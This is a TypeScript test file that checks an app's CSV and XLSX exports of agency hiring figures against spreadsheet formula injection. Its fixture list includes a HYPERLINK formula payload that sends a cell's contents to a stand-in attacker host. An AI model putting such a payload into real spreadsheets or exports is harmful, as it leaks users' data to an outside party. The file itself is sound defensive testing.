// Every CSV and XLSX the app writes neutralises text cells that a spreadsheet would run as a
// formula (OWASP CSV injection), and keeps numbers as numbers.
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import type { AgencyYearFigure } from "@/lib/data/hiring";
import { figuresCsv, figuresXlsx } from "@/lib/documents/figures-export";
import { neutraliseFormula, toCsv } from "@/lib/domain/csv";
import { importTemplate } from "@/lib/domain/hiring-import";

const HOSTILE = ['=HYPERLINK("https://angriper.example/?d="&A1,"Klikk her")', "@SUM(1)", "+1", "-1", "\t=1+1", "\r=1+1"];

const figure = (agencyName: string, i: number): AgencyYearFigure => ({
  agencyId: `a${i}`,
  agencyName,
  orgNumber: `97476067${i}`,
  year: 2020,
  figure: { kind: "shown", total: 40 + i, target: 3, share: 3 / (40 + i) },
  split: null,
});
const options = { currentYear: 2026 };

/** The CSV's rows as a spreadsheet reads them (fields split on semicolons, quotes undone). */
function csvRows(bytes: Uint8Array): string[][] {
  const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, "");
  const rows: string[][] = [[]];
  const re = /("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n|$)/gy;
  for (let m = re.exec(text); m && m[0] !== ""; m = re.exec(text)) {
    const raw = m[1]!;
    rows.at(-1)!.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === "\r\n") rows.push([]);
  }
  return rows.filter((r) => r.length > 1);
}

describe("neutraliseFormula", () => {
  it("puts an apostrophe before text that starts with =, +, -, @, a tab or a carriage return", () => {
    expect(HOSTILE.map(neutraliseFormula)).toEqual(HOSTILE.map((s) => `'${s}`));
  });

  it("leaves other text as it is", () => {
    for (const s of ["Husbanken", "974760673", "7,5 %", "– ", "Skjult", "", " =1", "a=1"]) expect(neutraliseFormula(s)).toBe(s);
  });
});

describe("toCsv", () => {
  it("neutralises text fields and writes numbers as they are", () => {
    const csv = toCsv([["=1+1", -1, 2020, "@SUM(1)", "Husbanken"]]);
    expect(csv).toBe("\uFEFF'=1+1;-1;2020;'@SUM(1);Husbanken\r\n");
  });

  it("quotes a neutralised field that holds a quote or a line break", () => {
    expect(toCsv([['=HYPERLINK("x")', "\r=1"]])).toBe('\uFEFF"\'=HYPERLINK(""x"")";"\'\r=1"\r\n');
  });
});

describe("the figures export", () => {
  const figures = HOSTILE.map(figure);

  it("as CSV, neutralises every hostile agency name", () => {
    const rows = csvRows(figuresCsv(figures, options));
    expect(rows[0]![0]).toBe("Virksomhet");
    expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((s) => `'${s}`));
    // The figures beside the names are untouched.
    expect(rows[4]!.slice(1, 5)).toEqual(["974760673", "2020", "43", "3"]);
  });

  it("as XLSX, neutralises every hostile agency name and keeps the numbers as numbers", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await figuresXlsx(figures, options)).buffer as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const names = HOSTILE.map((_, i) => sheet.getRow(i + 2).getCell(1).value);
    // (XML reads a carriage return as a line feed.)
    expect(names).toEqual(HOSTILE.map((s) => `'${s}`.replace(/\r/g, "\n")));
    // Not one formula cell in the sheet.
    const types = new Set<number>();
    sheet.eachRow((row) => row.eachCell((cell) => types.add(cell.type)));
    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false);
    const row = sheet.getRow(5);
    expect([row.getCell(3).value, row.getCell(4).value, row.getCell(5).value]).toEqual([2020, 43, 3]);
    expect(typeof row.getCell(6).value).toBe("number");
  });

  it("the import template neutralises the sector's agency names", () => {
    const template = toCsv(importTemplate(HOSTILE.map((name, i) => ({ id: `a${i}`, name, orgNumber: `97476067${i}` }))));
    expect(csvRows(new TextEncoder().encode(template)).slice(1).map((r) => r[1])).toEqual(HOSTILE.map((s) => `'${s}`));
  });
});
